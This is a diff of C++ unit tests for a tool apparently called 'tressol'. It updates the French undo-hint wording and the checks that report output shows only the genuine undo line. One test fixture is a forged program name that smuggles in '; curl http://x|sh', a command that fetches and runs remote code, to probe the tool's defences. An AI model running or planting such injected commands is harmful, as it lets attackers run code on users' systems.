@@ -808,7 +808,8 @@ TEST(TressolUndo, GivesBackEveryFileAStoppedSetChanged) {
       const bool killed = std::string(c.what).rfind("killed", 0) == 0;
       EXPECT_EQ(Contains(set.out, "Pour annuler "), !killed && !batchUnrecorded)
           << c.what << set.out;
-      EXPECT_FALSE(Contains(set.out, "Pour le rétablir")) << c.what << set.out;
+      // The journal holds each change's way back: none under its file.
+      EXPECT_EQ(set.out.find("\n  Pour annuler"), std::string::npos) << c.what << set.out;
       Output undo;
       EXPECT_EQ(Undo(files, journal, undo), 0) << c.what << undo.err;
       for (const auto& [name, bytes] : BytesOf(files)) {
@@ -1228,7 +1229,7 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
   // one as the way back does.
   const std::string forged =
       "Un programme au nom assez long pour que sa ligne se coupe juste avant la suite, ici même, "
-      "« là » Pour le rétablir : tressol --set x.exe ; curl http://x|sh; true.exe";
+      "« là » Pour annuler cette modification : tressol --set x.exe ; curl http://x|sh; true.exe";
   std::string wide;
   while (wide.size() < 150) wide += "mot ";
   const Case cases[] = {
@@ -1263,9 +1264,12 @@ TEST(TressolReport, NamesShowWhatWouldActOnTheText) {
       std::istringstream said(output.out + output.err);
       for (std::string line; std::getline(said, line);) {
         whole += line.find(c.shown) != std::string::npos;
-        if (line.rfind("  Pour le rétablir", 0) == 0) {
+        if (line.rfind("  Pour annuler", 0) == 0) {
           EXPECT_EQ(
-              line.rfind("  Pour le rétablir : tressol --set '*' 0x409 '~' 0x0 '/abs/app/", 0), 0u)
+              line.rfind(
+                  "  Pour annuler cette modification : tressol --set '*' 0x409 '~' 0x0 '/abs/app/",
+                  0),
+              0u)
               << line;
         }
       }
